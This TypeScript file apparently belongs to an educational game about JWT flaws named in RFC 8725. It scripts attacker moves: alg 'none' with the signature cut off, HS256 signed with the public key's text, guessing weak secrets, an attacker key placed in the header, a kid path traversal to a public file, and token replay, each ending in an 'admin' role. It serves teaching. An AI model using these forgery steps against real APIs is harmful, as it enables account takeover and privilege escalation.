import type { Key } from '../../core/keys/key.ts';
import { publicHalf } from '../../core/keys/public-half.ts';
import { fail, ok, type Result } from '../../core/text/result.ts';
import { setMember } from '../../core/text/set-member.ts';
import { toPemText } from '../../crypto/keys/export-key.ts';
import { generateKey } from '../../crypto/keys/generate-key.ts';
import { alterHeader, alterJwt } from '../jwt-tools/alter-jwt.ts';
import { signJwt } from '../jwt-tools/make-jwt.ts';
import { contentOf } from '../jwt-tools/read-jwt.ts';
import type { Hole } from '../verifier/hole.ts';
import type { Loot } from './scene.ts';
import { secretKey, secretOfText } from './secret-key.ts';

/** How far the attacker is. */
export interface Forged {
  readonly token: string;
  /** What they sign with by now. */
  readonly key?: Key;
}

/** What takes a while, or another thread. */
export interface Means {
  /** Tries the common passwords as the secret of an HS256 token. */
  readonly findSecret: (token: string, signal: AbortSignal) => Promise<Uint8Array | undefined>;
  readonly signal: AbortSignal;
}

/** One thing that the attacker does. It uses nothing but what they have. */
export interface Move {
  /** For its button: "Write “admin” into the payload". */
  readonly label: string;
  /** Resolves to the token after it, or to a sentence that says why it cannot be done. Rejects when aborted. */
  readonly make: (forged: Forged, loot: Loot, means: Means) => Promise<Result<Forged, string>>;
}

/** What most attackers want. The signature does not fit any more. */
const promote: Move = {
  label: 'Write “admin” and another jti into the payload',
  make: async (forged) =>
    ok({
      ...forged,
      token: alterJwt(forged.token, ({ payload }) => ({
        payload: setMember(setMember(payload, 'role', '"admin"'), 'jti', `"${crypto.randomUUID().slice(0, 13)}"`),
      })),
    }),
};

/** Writes a header parameter; `value` is JSON. */
const write = (label: string, name: string, value: string): Move => ({
  label,
  make: async (forged) => ok({ ...forged, token: alterHeader(forged.token, name, value) }),
});

/** Signs what is there with the key that the attacker got hold of. */
const signIt = (label: string): Move => ({
  label,
  make: async (forged, _, { signal }) => {
    const signed = await signJwt(contentOf(forged.token), forged.key, signal);
    return signed.ok ? ok({ ...forged, token: signed.value }) : signed;
  },
});

/** RFC 8725 §2.1. */
const acceptsNone: readonly Move[] = [
  promote,
  write('Set alg to none', 'alg', '"none"'),
  {
    label: 'Cut the signature off',
    make: async ({ token }) => ok({ token: token.slice(0, token.lastIndexOf('.') + 1) }),
  },
];

/** RFC 8725 §2.1. */
const headerChoosesAlgorithm: readonly Move[] = [
  promote,
  write('Set alg to HS256', 'alg', '"HS256"'),
  {
    label: 'Fetch the API’s public key',
    make: async (forged, { publicKey }) => {
      const pem = publicKey && (await toPemText(publicKey));
      return pem === undefined ? fail('There is no public key.') : ok({ ...forged, key: secretOfText(pem) });
    },
  },
  signIt('Sign with the text of it as the secret'),
];

/** RFC 8725 §2.2. No server is asked: each guess is compared with the signature. */
const guessableSecret: readonly Move[] = [
  {
    label: 'Try the common passwords as its secret',
    make: async (forged, { token }, { findSecret, signal }) => {
      const secret = await findSecret(token, signal);
      return secret ? ok({ ...forged, key: secretKey(secret) }) : fail('None of the common passwords is the secret.');
    },
  },
  promote,
  signIt('Sign it with the secret that was found'),
];

/** RFC 8725 §3.8: the key must be one of the issuer. */
const trustsKeyInToken: readonly Move[] = [
  promote,
  {
    label: 'Make a key pair of one’s own',
    make: async (forged, _, { signal }) => {
      const made = await generateKey('ES256', undefined, signal);
      return made.ok ? ok({ ...forged, key: made.value }) : made;
    },
  },
  {
    label: 'Put its public half into the header',
    make: async (forged) => {
      const open = forged.key && publicHalf(forged.key);
      if (!open) return fail('There is no key.');
      return ok({ ...forged, token: alterHeader(forged.token, 'jwk', JSON.stringify(open.material)) });
    },
  },
  signIt('Sign with its private half'),
];

/** RFC 8725 §2.9, §3.10. */
const kidAsFileName: readonly Move[] = [
  promote,
  write('Let kid lead to a file that everybody knows', 'kid', '"../public/robots.txt"'),
  {
    label: 'Read that file on the API’s web site',
    make: async (forged, { file }) => ok({ ...forged, key: secretOfText(file.text) }),
  },
  signIt('Sign with its text as the secret'),
];

/** Nothing is forged: a token is used that is genuine to the last character. */
const take = (label: string): readonly Move[] => [{ label, make: async (_, { token }) => ok({ token }) }];

/** How each hole is used, move by move. */
export const forgeries: Readonly<Record<Hole, readonly Move[]>> = {
  'accepts-none': acceptsNone,
  'header-chooses-algorithm': headerChoosesAlgorithm,
  'guessable-secret': guessableSecret,
  'trusts-key-in-token': trustsKeyInToken,
  'kid-as-file-name': kidAsFileName,
  // RFC 8725 §2.8: it is used where it was not made for.
  'any-kind-of-token': take('Take the ID token that the game got when Ada signed in'),
  'no-memory': take('Copy Ada’s token out of a log'),
};
